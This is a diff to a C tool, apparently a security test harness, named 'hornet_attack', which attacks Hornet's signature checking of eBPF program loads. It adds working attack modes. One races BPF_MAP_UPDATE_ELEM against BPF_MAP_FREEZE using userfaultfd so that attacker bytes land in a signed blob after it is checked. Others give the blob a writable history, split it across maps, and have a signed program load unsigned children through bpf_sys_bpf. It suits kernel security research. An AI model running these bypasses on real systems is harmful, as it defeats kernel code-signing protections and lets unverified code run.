@@ -42,6 +42,62 @@
  *
  * With "unfrozen" after the signatures, the blob is left writable: the
  * control that shows each step can succeed when nothing protects the blob.
+ *
+ *   hornet_attack past KIND HISTORY_MODE LOAD_MODE LOADER_SIG WRITER_SIG
+ *
+ * past gives a blob a history before the signed loader's load: with
+ * Hornet's mode set to HISTORY_MODE, the blob (still writable) is
+ *   none        left alone (the control)
+ *   bound       bound to the writer, loaded unsigned and kept
+ *   map_in_map  put in an array of maps
+ *   iter        put under a map element iterator (an unsigned program)
+ *   bind_map    bound to an unsigned program with BPF_PROG_BIND_MAP
+ * and printed as history=0|-ERRNO. The blob is then frozen, the mode set
+ * to LOAD_MODE and the loader loaded (loader=0|-ERRNO). When it loads,
+ * the writer (if any) runs (writer_run=0|-ERRNO), then the loader, which
+ * prints read=0xN as above: 0x41 means the writer changed the signed blob
+ * after it was checked.
+ *
+ *   hornet_attack split LOADER_SIG
+ *
+ * split loads the loader with its signed blob cut in two 32-byte maps,
+ * fd_array_cnt 2, and prints loader=0|-ERRNO and, when it loads, read=.
+ *
+ *   hornet_attack inflight LOADER_SIG TRIES HITS
+ *
+ * inflight races BPF_MAP_UPDATE_ELEM of a fresh blob against its
+ * BPF_MAP_FREEZE, with the update's value on a userfaultfd page: the
+ * update stops in its copy of the value, and stays there until this
+ * process answers the fault. A try hits the window when the freeze
+ * returned 0 while the update is stopped in its copy (it had passed the
+ * frozen check). On each hit, the loader is loaded over the blob
+ * (signed by LOADER_SIG), then the fault is answered with "AAAA...", so
+ * that the update completes on the frozen map, then the loader runs. It
+ * stops after HITS hits or TRIES tries and prints
+ *   tries=N writer_first=N freeze_first=N hits=N loaded=N refused_eperm=N
+ *   other=N read_attacker=N read_signed=N late_writes=N
+ * writer_first and freeze_first count the tries that missed the window
+ * (the freeze saw the update in flight and failed with EBUSY; the update
+ * saw the map frozen and failed with EPERM), loaded and refused_eperm the
+ * loader's loads on a hit, read_* what its runs read, late_writes the
+ * updates that completed on the frozen blob after a hit.
+ *
+ *   hornet_attack payload-spawner OUT
+ *   hornet_attack spawn SIG|- KEYRING CHILD_MAP RUNS [freeze]
+ *
+ * spawn loads the spawner, a signed syscall program that, when run,
+ * creates an array map and loads a child (a socket filter that names one
+ * map) through bpf_sys_bpf(); the child's fd_array names the map the
+ * spawner made, or, as if another thread had dup2()ed it in, the fd its
+ * context gives. CHILD_MAP picks: own (the run's map), blob (the
+ * spawner's own sealed blob) or foreign (a map of this process). KEYRING
+ * is the load's keyring_id. With "freeze", the spawner freezes the
+ * child's map through bpf_sys_bpf() before loading the child, as a light
+ * skeleton's loader freezes .rodata. It prints loader=0|-ERRNO, then for
+ * each of RUNS runs
+ *   run=N ret=0|-ERRNO child=0|-ERRNO bound=own|blob|foreign|none
+ * (ret is BPF_PROG_TEST_RUN's, child the spawner's result: 0 once the
+ * child loaded, or the first error it met, bound the map the child uses).
  */
 #define _GNU_SOURCE
 #include <errno.h>
@@ -52,7 +108,13 @@
 #include <unistd.h>
 #include <fcntl.h>
 #include <linux/btf.h>
+#include <linux/userfaultfd.h>
+#include <poll.h>
+#include <pthread.h>
+#include <stdatomic.h>
+#include <sys/ioctl.h>
 #include <sys/mman.h>
+#include <sys/syscall.h>
 
 #include "blob_map.h"
 #include "../btf_walk.h"
@@ -114,6 +176,9 @@ static size_t read_sig(const char *path, uint8_t *buf, size_t size)
 	return n;
 }
 
+/* keyring_id of the signed loads load() makes. */
+static int32_t load_keyring;
+
 static int load(const char *name, const struct bpf_insn *insns, size_t cnt,
 		int *fd_array, uint32_t fd_cnt, const uint8_t *sig,
 		size_t sig_len)
@@ -133,6 +198,7 @@ static int load(const char *name, const struct bpf_insn *insns, size_t cnt,
 	if (sig_len) {
 		attr.signature = (uintptr_t)sig;
 		attr.signature_size = sig_len;
+		attr.keyring_id = load_keyring;
 	}
 	fd = blob_sys_bpf(BPF_PROG_LOAD, &attr);
 	return fd < 0 ? -errno : fd;
@@ -371,6 +437,559 @@ static int cmd_run(const char *loader_sig_path, const char *writer_sig_path,
 	return 0;
 }
 
+/*
+ * BPF_PROG_TEST_RUN of PROG_FD with CTX. Returns 0 and sets *RETVAL to
+ * what the program returned, or returns -errno of the syscall.
+ */
+static int test_run(int prog_fd, void *ctx, uint32_t ctx_size, int32_t *retval)
+{
+	union bpf_attr attr;
+
+	memset(&attr, 0, sizeof(attr));
+	attr.test.prog_fd = prog_fd;
+	attr.test.ctx_in = (uintptr_t)ctx;
+	attr.test.ctx_size_in = ctx_size;
+	if (blob_sys_bpf(BPF_PROG_TEST_RUN, &attr))
+		return -errno;
+	*retval = (int32_t)attr.test.retval;
+	return 0;
+}
+
+/* test_run() without a context; prints run=-ERRNO or read=0xN. */
+static void run_and_read(int prog_fd)
+{
+	int32_t retval;
+	int err = test_run(prog_fd, NULL, 0, &retval);
+
+	if (err)
+		report("run", err);
+	else
+		printf("read=0x%x\n", (uint32_t)retval);
+}
+
+/* The id of the map or program behind FD. */
+static uint32_t obj_id(int fd, bool prog, uint32_t *first_map)
+{
+	struct bpf_prog_info pinfo;
+	struct bpf_map_info minfo;
+	union bpf_attr attr;
+	uint32_t ids[4] = { 0 };
+
+	memset(&attr, 0, sizeof(attr));
+	attr.info.bpf_fd = fd;
+	if (prog) {
+		memset(&pinfo, 0, sizeof(pinfo));
+		pinfo.nr_map_ids = 4;
+		pinfo.map_ids = (uintptr_t)ids;
+		attr.info.info_len = sizeof(pinfo);
+		attr.info.info = (uintptr_t)&pinfo;
+	} else {
+		memset(&minfo, 0, sizeof(minfo));
+		attr.info.info_len = sizeof(minfo);
+		attr.info.info = (uintptr_t)&minfo;
+	}
+	if (blob_sys_bpf(BPF_OBJ_GET_INFO_BY_FD, &attr))
+		die("BPF_OBJ_GET_INFO_BY_FD");
+	if (first_map)
+		*first_map = prog && pinfo.nr_map_ids ? ids[0] : 0;
+	return prog ? pinfo.id : minfo.id;
+}
+
+static void set_mode(const char *mode)
+{
+	int fd = open("/sys/kernel/security/hornet/mode", O_WRONLY);
+
+	if (fd < 0 || write(fd, mode, strlen(mode)) < 0)
+		die("writing Hornet's mode");
+	close(fd);
+}
+
+static int freeze(int map_fd)
+{
+	union bpf_attr attr;
+
+	memset(&attr, 0, sizeof(attr));
+	attr.map_fd = map_fd;
+	return blob_sys_bpf(BPF_MAP_FREEZE, &attr) ? -errno : 0;
+}
+
+static int cmd_past(const char *kind, const char *history_mode,
+		    const char *load_mode, const char *loader_sig_path,
+		    const char *writer_sig_path)
+{
+	static uint8_t loader_sig[65536], writer_sig[65536];
+	size_t loader_sig_len, writer_sig_len;
+	int blob_fd, loader_fd, writer_fd = -1, dummy_fd, history = 0;
+	union bpf_attr attr;
+	int32_t retval;
+
+	loader_sig_len = read_sig(loader_sig_path, loader_sig, sizeof(loader_sig));
+	writer_sig_len = read_sig(writer_sig_path, writer_sig, sizeof(writer_sig));
+	blob_fd = blob_map_create("past_blob", blob, BLOB_SIZE, false);
+	if (blob_fd < 0) {
+		errno = -blob_fd;
+		die("blob map");
+	}
+
+	set_mode(history_mode);
+	if (!strcmp(kind, "bound")) {
+		writer_fd = load("h_past_writer", writer_insns, 5, &blob_fd, 1,
+				 writer_sig, writer_sig_len);
+		history = writer_fd < 0 ? writer_fd : 0;
+	} else if (!strcmp(kind, "map_in_map")) {
+		history = put_in_map_of_maps(blob_fd);
+	} else if (!strcmp(kind, "iter")) {
+		history = attach_map_iter(blob_fd, NULL, 0);
+	} else if (!strcmp(kind, "bind_map")) {
+		dummy_fd = load("h_past_dummy", dummy_insns, 2, NULL, 0, NULL, 0);
+		if (dummy_fd < 0) {
+			history = dummy_fd;
+		} else {
+			memset(&attr, 0, sizeof(attr));
+			attr.prog_bind_map.prog_fd = dummy_fd;
+			attr.prog_bind_map.map_fd = blob_fd;
+			history = blob_sys_bpf(BPF_PROG_BIND_MAP, &attr) ?
+				  -errno : 0;
+		}
+	} else if (strcmp(kind, "none")) {
+		fprintf(stderr, "hornet_attack: unknown history '%s'\n", kind);
+		exit(2);
+	}
+	report("history", history);
+	if (freeze(blob_fd))
+		die("BPF_MAP_FREEZE of the blob");
+
+	set_mode(load_mode);
+	loader_fd = load("h_past_loader", loader_insns, 4, &blob_fd, 1,
+			 loader_sig, loader_sig_len);
+	report("loader", loader_fd);
+	if (loader_fd < 0)
+		return 0;
+	if (writer_fd >= 0)
+		report("writer_run", test_run(writer_fd, NULL, 0, &retval));
+	run_and_read(loader_fd);
+	return 0;
+}
+
+/*
+ * The loader's signed blob split over two frozen maps of 32 bytes each:
+ * the payload (instructions, then both values) is the signed one, the
+ * boundary between the maps the caller's choice.
+ */
+static int cmd_split(const char *loader_sig_path)
+{
+	static uint8_t sig[65536];
+	size_t sig_len = read_sig(loader_sig_path, sig, sizeof(sig));
+	int fds[2], loader_fd;
+
+	fds[0] = blob_map_create("split_a", blob, BLOB_SIZE / 2, true);
+	fds[1] = blob_map_create("split_b", blob + BLOB_SIZE / 2,
+				 BLOB_SIZE / 2, true);
+	if (fds[0] < 0 || fds[1] < 0) {
+		errno = fds[0] < 0 ? -fds[0] : -fds[1];
+		die("split maps");
+	}
+	loader_fd = load("h_split", loader_insns, 4, fds, 2, sig, sig_len);
+	report("loader", loader_fd);
+	if (loader_fd >= 0)
+		run_and_read(loader_fd);
+	return 0;
+}
+
+/* --- inflight ------------------------------------------------------------ */
+
+/* The writer thread's side of one try. */
+static struct {
+	int map_fd;
+	uint8_t *value;		/* on the userfaultfd page */
+	atomic_int go;		/* the try to start, -1 to stop */
+	atomic_int done;	/* the last try whose update returned */
+	atomic_int spin;	/* how long to wait before the update */
+	int ret;
+} inflight;
+
+/* How far, in spins, each try strays from the last boundary seen. */
+#define INFLIGHT_JITTER	8
+/*
+ * How far the boundary may drift before the search starts again from 0:
+ * when the host deschedules a vCPU, one side comes first whatever the
+ * delay, and the delay would otherwise run away.
+ */
+#define INFLIGHT_BIAS_MAX	256
+
+static void spin_for(int n)
+{
+	for (volatile int i = 0; i < n; i++)
+		;
+}
+
+static void *inflight_writer(void *unused)
+{
+	union bpf_attr attr;
+	uint32_t key = 0;
+	int seen = 0, t;
+
+	(void)unused;
+	for (;;) {
+		while ((t = atomic_load(&inflight.go)) == seen)
+			;
+		if (t < 0)
+			return NULL;
+		seen = t;
+		spin_for(atomic_load(&inflight.spin));
+		memset(&attr, 0, sizeof(attr));
+		attr.map_fd = inflight.map_fd;
+		attr.key = (uintptr_t)&key;
+		attr.value = (uintptr_t)inflight.value;
+		inflight.ret = blob_sys_bpf(BPF_MAP_UPDATE_ELEM, &attr) ? -errno : 0;
+		atomic_store(&inflight.done, t);
+	}
+}
+
+/* Answer the fault on the value page with a page of FILL bytes. */
+static void uffd_answer(int uffd, uint8_t *page, long pagesz, int fill)
+{
+	static uint8_t src[65536];
+	struct uffdio_copy copy;
+
+	memset(src, fill, pagesz);
+	memset(&copy, 0, sizeof(copy));
+	copy.dst = (uintptr_t)page;
+	copy.src = (uintptr_t)src;
+	copy.len = pagesz;
+	if (ioctl(uffd, UFFDIO_COPY, &copy))
+		die("UFFDIO_COPY");
+}
+
+/*
+ * Make PAGE a new, empty page whose first touch faults to UFFD (the tiny
+ * kernel has no madvise()): map it again in place and register it.
+ */
+static void uffd_fresh_page(int uffd, uint8_t *page, long pagesz)
+{
+	struct uffdio_register reg;
+
+	if (mmap(page, pagesz, PROT_READ | PROT_WRITE,
+		 MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0) != page)
+		die("mmap of the value page");
+	memset(&reg, 0, sizeof(reg));
+	reg.range.start = (uintptr_t)page;
+	reg.range.len = pagesz;
+	reg.mode = UFFDIO_REGISTER_MODE_MISSING;
+	if (ioctl(uffd, UFFDIO_REGISTER, &reg))
+		die("UFFDIO_REGISTER");
+}
+
+/*
+ * Wait until the writer's update of try T returned, or a fault on the
+ * value page stopped it in its copy. Returns 1 for a fault, 0 for a
+ * return; exits when neither comes within ten seconds.
+ */
+static int inflight_settle(int uffd, int t)
+{
+	struct uffd_msg msg;
+	struct pollfd pfd = { .fd = uffd, .events = POLLIN };
+
+	/*
+	 * Sleep between looks: a vCPU that spins here takes host time from
+	 * the one the two calls race on, and the window is a few
+	 * instructions wide.
+	 */
+	for (int ms = 0; ms < 10000; ms++) {
+		if (atomic_load(&inflight.done) == t)
+			return 0;
+		if (poll(&pfd, 1, 1) == 1) {
+			if (read(uffd, &msg, sizeof(msg)) != sizeof(msg) ||
+			    msg.event != UFFD_EVENT_PAGEFAULT)
+				die("reading the userfaultfd");
+			return 1;
+		}
+	}
+	fprintf(stderr, "hornet_attack: try %d: the update neither returned nor faulted\n", t);
+	exit(1);
+}
+
+static int cmd_inflight(const char *loader_sig_path, int tries, int want)
+{
+	static uint8_t loader_sig[65536];
+	int hits = 0, loaded = 0, refused = 0, other = 0, late = 0;
+	int read_attacker = 0, read_signed = 0, bias = 0, t, d;
+	int writer_first = 0, freeze_first = 0;
+
+	long pagesz = sysconf(_SC_PAGESIZE);
+	struct uffdio_api api;
+	size_t loader_sig_len;
+	pthread_t thread;
+	uint8_t *page;
+	int uffd;
+
+	loader_sig_len = read_sig(loader_sig_path, loader_sig, sizeof(loader_sig));
+	uffd = syscall(__NR_userfaultfd, O_CLOEXEC | O_NONBLOCK);
+	if (uffd < 0)
+		die("userfaultfd");
+	memset(&api, 0, sizeof(api));
+	api.api = UFFD_API;
+	if (ioctl(uffd, UFFDIO_API, &api))
+		die("UFFDIO_API");
+	page = mmap(NULL, pagesz, PROT_READ | PROT_WRITE,
+		    MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+	if (page == MAP_FAILED)
+		die("mmap");
+	inflight.value = page;
+	if (pthread_create(&thread, NULL, inflight_writer, NULL))
+		die("pthread_create");
+
+	for (t = 1; t <= tries && hits < want; t++) {
+		int blob_fd, fr, faulted, loader_fd;
+		int32_t retval;
+
+		blob_fd = blob_map_create("inflight_blob", blob, BLOB_SIZE, false);
+		if (blob_fd < 0) {
+			errno = -blob_fd;
+			die("blob map");
+		}
+		uffd_fresh_page(uffd, page, pagesz);
+		inflight.map_fd = blob_fd;
+		/*
+		 * The two calls start together; whichever came first last
+		 * time starts a little later this time, so that the tries
+		 * gather at the boundary between "the update came first"
+		 * and "the freeze came first", which is the window, and
+		 * spread around it a little.
+		 */
+		d = bias + rand() % (2 * INFLIGHT_JITTER + 1) - INFLIGHT_JITTER;
+		atomic_store(&inflight.spin, d > 0 ? d : 0);
+		atomic_store(&inflight.go, t);
+		spin_for(d < 0 ? -d : 0);
+		fr = freeze(blob_fd);
+		faulted = inflight_settle(uffd, t);
+
+		if (faulted && fr == 0) {
+			hits++;
+			loader_fd = load("h_inflight", loader_insns, 4, &blob_fd, 1,
+					 loader_sig, loader_sig_len);
+			if (loader_fd >= 0)
+				loaded++;
+			else if (loader_fd == -EPERM)
+				refused++;
+			else
+				other++;
+			uffd_answer(uffd, page, pagesz, 'A');
+			while (atomic_load(&inflight.done) != t)
+				;
+			if (inflight.ret == 0)
+				late++;
+			if (loader_fd >= 0) {
+				if (test_run(loader_fd, NULL, 0, &retval))
+					die("BPF_PROG_TEST_RUN of the loader");
+				if (retval == 0x41414141)
+					read_attacker++;
+				else if (retval == 0x6e726f68)
+					read_signed++;
+				close(loader_fd);
+			}
+		} else if (faulted) {
+			/* The update came first: the freeze found it in flight. */
+			if (fr != -EBUSY) {
+				fprintf(stderr, "hornet_attack: try %d: freeze=%d with the update in flight\n",
+					t, fr);
+				exit(1);
+			}
+			bias = bias < INFLIGHT_BIAS_MAX ? bias + 1 : 0;
+			writer_first++;
+			uffd_answer(uffd, page, pagesz, 'h');
+			while (atomic_load(&inflight.done) != t)
+				;
+		} else {
+			/* The freeze came first: the update saw it. */
+			if (fr || inflight.ret != -EPERM) {
+				fprintf(stderr, "hornet_attack: try %d: freeze=%d update=%d\n",
+					t, fr, inflight.ret);
+				exit(1);
+			}
+			bias = bias > -INFLIGHT_BIAS_MAX ? bias - 1 : 0;
+			freeze_first++;
+		}
+		close(blob_fd);
+	}
+	atomic_store(&inflight.go, -1);
+	pthread_join(thread, NULL);
+	printf("tries=%d writer_first=%d freeze_first=%d hits=%d loaded=%d refused_eperm=%d other=%d read_attacker=%d read_signed=%d late_writes=%d\n",
+	       t - 1, writer_first, freeze_first, hits, loaded, refused, other,
+	       read_attacker, read_signed, late);
+	return 0;
+}
+
+/* --- spawn --------------------------------------------------------------- */
+
+#define INSN(c, d, s, o, i) \
+	((struct bpf_insn){ .code = (c), .dst_reg = (d), .src_reg = (s), \
+			    .off = (o), .imm = (i) })
+
+static struct bpf_insn spawner[128];
+static unsigned int spawner_cnt;
+static uint8_t spawn_blob[BLOB_SIZE];
+
+static unsigned int emit(struct bpf_insn insn)
+{
+	spawner[spawner_cnt] = insn;
+	return spawner_cnt++;
+}
+
+/* Zero the stack's 128 bytes below the frame pointer, the attr. */
+static void emit_zero_attr(void)
+{
+	for (int off = -128; off < 0; off += 8)
+		emit(INSN(BPF_ST | BPF_MEM | BPF_DW, BPF_REG_10, 0, off, 0));
+}
+
+/* bpf_sys_bpf(CMD, fp - 128, 128) */
+static void emit_sys_bpf(int cmd)
+{
+	emit(INSN(BPF_ALU64 | BPF_MOV | BPF_K, BPF_REG_1, 0, 0, cmd));
+	emit(INSN(BPF_ALU64 | BPF_MOV | BPF_X, BPF_REG_2, BPF_REG_10, 0, 0));
+	emit(INSN(BPF_ALU64 | BPF_ADD | BPF_K, BPF_REG_2, 0, 0, -128));
+	emit(INSN(BPF_ALU64 | BPF_MOV | BPF_K, BPF_REG_3, 0, 0, 128));
+	emit(INSN(BPF_JMP | BPF_CALL, 0, 0, 0, BPF_FUNC_sys_bpf));
+}
+
+/* The spawner's context: which map its child gets, and whether it freezes it. */
+struct spawn_ctx {
+	uint32_t fd;
+	uint32_t flags;
+};
+
+#define SPAWN_USE_FD	1	/* the child's map is ctx.fd, not the new map */
+#define SPAWN_FREEZE	2	/* freeze the child's map before the load */
+
+/*
+ * The spawner and its blob: the child's instructions (r1 = the map of
+ * fd_array[0]; return 0) and its license. The spawner makes a map; the
+ * child's fd_array[0] is that map, or with SPAWN_USE_FD the context's fd,
+ * as a steered fd table would give; with SPAWN_FREEZE the spawner first
+ * freezes that map, as a light skeleton's loader freezes .rodata. It
+ * returns the child's fd, or the first error.
+ */
+static void build_spawner(void)
+{
+	const struct bpf_insn child[] = {
+		INSN(BPF_LD | BPF_DW | BPF_IMM, BPF_REG_1, BPF_PSEUDO_MAP_IDX, 0, 0),
+		INSN(0, 0, 0, 0, 0),
+		INSN(BPF_ALU64 | BPF_MOV | BPF_K, BPF_REG_0, 0, 0, 0),
+		INSN(BPF_JMP | BPF_EXIT, 0, 0, 0, 0),
+	};
+	unsigned int fail[2], skip, end;
+	uint32_t name[2];
+
+	memcpy(spawn_blob, child, sizeof(child));
+	memcpy(spawn_blob + sizeof(child), "GPL", 4);
+	memcpy(name, "h_child\0", 8);
+
+	spawner_cnt = 0;
+	emit(INSN(BPF_ALU64 | BPF_MOV | BPF_X, BPF_REG_6, BPF_REG_1, 0, 0));
+	emit(INSN(BPF_LD | BPF_DW | BPF_IMM, BPF_REG_7, BPF_PSEUDO_MAP_IDX_VALUE, 0, 0));
+	emit(INSN(0, 0, 0, 0, 0));
+	/* map_create(array, key 4, value 8, one entry) */
+	emit_zero_attr();
+	emit(INSN(BPF_ST | BPF_MEM | BPF_W, BPF_REG_10, 0, -128, BPF_MAP_TYPE_ARRAY));
+	emit(INSN(BPF_ST | BPF_MEM | BPF_W, BPF_REG_10, 0, -124, 4));
+	emit(INSN(BPF_ST | BPF_MEM | BPF_W, BPF_REG_10, 0, -120, 8));
+	emit(INSN(BPF_ST | BPF_MEM | BPF_W, BPF_REG_10, 0, -116, 1));
+	emit_sys_bpf(BPF_MAP_CREATE);
+	emit(INSN(BPF_ALU64 | BPF_MOV | BPF_X, BPF_REG_8, BPF_REG_0, 0, 0));
+	fail[0] = emit(INSN(BPF_JMP | BPF_JSLT | BPF_K, BPF_REG_8, 0, 0, 0));
+	/* r9: the child's map, the context's fd or the new map's */
+	emit(INSN(BPF_LDX | BPF_MEM | BPF_W, BPF_REG_1, BPF_REG_6, 4, 0));
+	emit(INSN(BPF_ALU64 | BPF_AND | BPF_K, BPF_REG_1, 0, 0, SPAWN_USE_FD));
+	emit(INSN(BPF_JMP | BPF_JEQ | BPF_K, BPF_REG_1, 0, 2, 0));
+	emit(INSN(BPF_LDX | BPF_MEM | BPF_W, BPF_REG_9, BPF_REG_6, 0, 0));
+	emit(INSN(BPF_JMP | BPF_JA, 0, 0, 1, 0));
+	emit(INSN(BPF_ALU64 | BPF_MOV | BPF_X, BPF_REG_9, BPF_REG_8, 0, 0));
+	/* map_freeze(r9), if asked */
+	emit(INSN(BPF_LDX | BPF_MEM | BPF_W, BPF_REG_1, BPF_REG_6, 4, 0));
+	emit(INSN(BPF_ALU64 | BPF_AND | BPF_K, BPF_REG_1, 0, 0, SPAWN_FREEZE));
+	skip = emit(INSN(BPF_JMP | BPF_JEQ | BPF_K, BPF_REG_1, 0, 0, 0));
+	emit_zero_attr();
+	emit(INSN(BPF_STX | BPF_MEM | BPF_W, BPF_REG_10, BPF_REG_9, -128, 0));
+	emit_sys_bpf(BPF_MAP_FREEZE);
+	fail[1] = emit(INSN(BPF_JMP | BPF_JSLT | BPF_K, BPF_REG_0, 0, 0, 0));
+	spawner[skip].off = spawner_cnt - skip - 1;
+	/* fd_array[0], at fp - 136 */
+	emit(INSN(BPF_STX | BPF_MEM | BPF_W, BPF_REG_10, BPF_REG_9, -136, 0));
+	/* prog_load(socket filter, the blob's four insns, "GPL", fd_array) */
+	emit_zero_attr();
+	emit(INSN(BPF_ST | BPF_MEM | BPF_W, BPF_REG_10, 0, -128, BPF_PROG_TYPE_SOCKET_FILTER));
+	emit(INSN(BPF_ST | BPF_MEM | BPF_W, BPF_REG_10, 0, -124, 4));
+	emit(INSN(BPF_STX | BPF_MEM | BPF_DW, BPF_REG_10, BPF_REG_7, -120, 0));
+	emit(INSN(BPF_ALU64 | BPF_MOV | BPF_X, BPF_REG_2, BPF_REG_7, 0, 0));
+	emit(INSN(BPF_ALU64 | BPF_ADD | BPF_K, BPF_REG_2, 0, 0, sizeof(child)));
+	emit(INSN(BPF_STX | BPF_MEM | BPF_DW, BPF_REG_10, BPF_REG_2, -112, 0));
+	emit(INSN(BPF_ST | BPF_MEM | BPF_W, BPF_REG_10, 0, -80, (int32_t)name[0]));
+	emit(INSN(BPF_ST | BPF_MEM | BPF_W, BPF_REG_10, 0, -76, (int32_t)name[1]));
+	emit(INSN(BPF_ALU64 | BPF_MOV | BPF_X, BPF_REG_2, BPF_REG_10, 0, 0));
+	emit(INSN(BPF_ALU64 | BPF_ADD | BPF_K, BPF_REG_2, 0, 0, -136));
+	emit(INSN(BPF_STX | BPF_MEM | BPF_DW, BPF_REG_10, BPF_REG_2, -8, 0));
+	emit_sys_bpf(BPF_PROG_LOAD);
+	end = emit(INSN(BPF_JMP | BPF_EXIT, 0, 0, 0, 0));
+	for (int i = 0; i < 2; i++)
+		spawner[fail[i]].off = end - fail[i] - 1;
+}
+
+static int cmd_spawn(const char *sig_path, int32_t keyring,
+		     const char *child_map, int runs, bool freeze_first)
+{
+	static uint8_t sig[65536];
+	struct spawn_ctx ctx = { 0, 0 };
+	uint32_t blob_id, foreign_id, bound_id;
+	int blob_fd, foreign_fd, loader_fd;
+	size_t sig_len;
+
+	build_spawner();
+	sig_len = read_sig(sig_path, sig, sizeof(sig));
+	blob_fd = blob_map_create("spawn_blob", spawn_blob, BLOB_SIZE, true);
+	foreign_fd = blob_map_create("spawn_foreign", blob, 8, false);
+	if (blob_fd < 0 || foreign_fd < 0) {
+		errno = blob_fd < 0 ? -blob_fd : -foreign_fd;
+		die("spawner maps");
+	}
+	blob_id = obj_id(blob_fd, false, NULL);
+	foreign_id = obj_id(foreign_fd, false, NULL);
+	if (!strcmp(child_map, "blob")) {
+		ctx = (struct spawn_ctx){ (uint32_t)blob_fd, SPAWN_USE_FD };
+	} else if (!strcmp(child_map, "foreign")) {
+		ctx = (struct spawn_ctx){ (uint32_t)foreign_fd, SPAWN_USE_FD };
+	} else if (strcmp(child_map, "own")) {
+		fprintf(stderr, "hornet_attack: unknown child map '%s'\n", child_map);
+		exit(2);
+	}
+	if (freeze_first)
+		ctx.flags |= SPAWN_FREEZE;
+
+	load_keyring = keyring;
+	loader_fd = load("h_spawner", spawner, spawner_cnt, &blob_fd, 1, sig,
+			 sig_len);
+	report("loader", loader_fd);
+	if (loader_fd < 0)
+		return 0;
+	printf("loader_id=%u\n", obj_id(loader_fd, true, NULL));
+	for (int r = 1; r <= runs; r++) {
+		int32_t child = 0;
+		int ret = test_run(loader_fd, &ctx, sizeof(ctx), &child);
+		const char *bound = "none";
+
+		if (!ret && child >= 0) {
+			obj_id(child, true, &bound_id);
+			bound = bound_id == blob_id ? "blob" :
+				bound_id == foreign_id ? "foreign" :
+				bound_id ? "own" : "none";
+			close(child);
+		}
+		printf("run=%d ret=%d child=%d bound=%s\n", r, ret,
+		       child < 0 ? child : 0, bound);
+	}
+	return 0;
+}
+
 int main(int argc, char **argv)
 {
 	if (argc == 3 && !strcmp(argv[1], "payload-loader")) {
@@ -387,11 +1006,33 @@ int main(int argc, char **argv)
 		write_file(argv[2], dummy_insns, sizeof(dummy_insns), NULL, 0);
 		return 0;
 	}
+	if (argc == 3 && !strcmp(argv[1], "payload-spawner")) {
+		build_spawner();
+		write_file(argv[2], spawner, spawner_cnt * sizeof(*spawner),
+			   spawn_blob, BLOB_SIZE);
+		return 0;
+	}
 	if (argc == 5 && !strcmp(argv[1], "run"))
 		return cmd_run(argv[2], argv[3], argv[4], true);
+	if (argc == 7 && !strcmp(argv[1], "past"))
+		return cmd_past(argv[2], argv[3], argv[4], argv[5], argv[6]);
+	if (argc == 3 && !strcmp(argv[1], "split"))
+		return cmd_split(argv[2]);
+	if (argc == 5 && !strcmp(argv[1], "inflight"))
+		return cmd_inflight(argv[2], atoi(argv[3]), atoi(argv[4]));
+	if (argc == 6 && !strcmp(argv[1], "spawn"))
+		return cmd_spawn(argv[2], atoi(argv[3]), argv[4], atoi(argv[5]),
+				 false);
+	if (argc == 7 && !strcmp(argv[1], "spawn") && !strcmp(argv[6], "freeze"))
+		return cmd_spawn(argv[2], atoi(argv[3]), argv[4], atoi(argv[5]),
+				 true);
 	if (argc == 6 && !strcmp(argv[1], "run") && !strcmp(argv[5], "unfrozen"))
 		return cmd_run(argv[2], argv[3], argv[4], false);
-	fprintf(stderr, "usage: hornet_attack payload-loader|payload-writer|payload-dummy OUT\n"
-			"       hornet_attack run LOADER_SIG|- WRITER_SIG|- DUMMY_SIG|- [unfrozen]\n");
+	fprintf(stderr, "usage: hornet_attack payload-loader|payload-writer|payload-dummy|payload-spawner OUT\n"
+			"       hornet_attack run LOADER_SIG|- WRITER_SIG|- DUMMY_SIG|- [unfrozen]\n"
+			"       hornet_attack past none|bound|map_in_map|iter|bind_map HISTORY_MODE LOAD_MODE LOADER_SIG WRITER_SIG|-\n"
+			"       hornet_attack inflight LOADER_SIG TRIES HITS\n"
+			"       hornet_attack split LOADER_SIG\n"
+			"       hornet_attack spawn SIG|- KEYRING own|blob|foreign RUNS [freeze]\n");
 	return 2;
 }
